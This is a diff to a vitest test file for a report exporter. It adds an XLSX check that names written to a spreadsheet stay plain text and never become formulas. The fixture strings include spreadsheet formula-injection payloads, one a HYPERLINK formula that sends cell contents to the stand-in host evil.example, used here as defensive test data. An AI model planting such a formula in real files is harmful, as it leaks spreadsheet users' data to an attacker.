@@ -1,9 +1,11 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 
 import { exportAggregates } from '../../src/report/export-aggregates.js';
+import { aggregatesWorkbook } from '../../src/report/export-aggregates-xlsx.js';
 import { openSqliteStore, type SqliteStore } from '../../src/store/sqlite/sqlite-store.js';
 import { makeItem } from '../store/make-post.js';
 import { makeProject } from './make-project.js';
@@ -75,5 +77,15 @@ describe('the aggregate export opened in a spreadsheet', () => {
       "' =2+2", "'-4+3", "'@SUM(1+1)", "'＝3+3", 'Ak;=1+1', 'Tab\t=5+5',
       'Tengri;=HYPERLINK("http://evil.example/?"&A1,"click")', 'Новости\t+7', 'Норм медиа',
     ]);
+  });
+
+  it('shows the names as written in the workbook, where text cells are never formulas', async () => {
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.from(await aggregatesWorkbook(csv)) as unknown as ArrayBuffer);
+    // The value column, below its header.
+    const cells = workbook.getWorksheet('aggregates')!.getColumn(4).values.slice(2);
+
+    expect(cells.filter((cell) => typeof cell !== 'string')).toEqual([]);
+    expect(OUTLETS.filter((outlet) => !cells.includes(outlet))).toEqual([]);
   });
 });
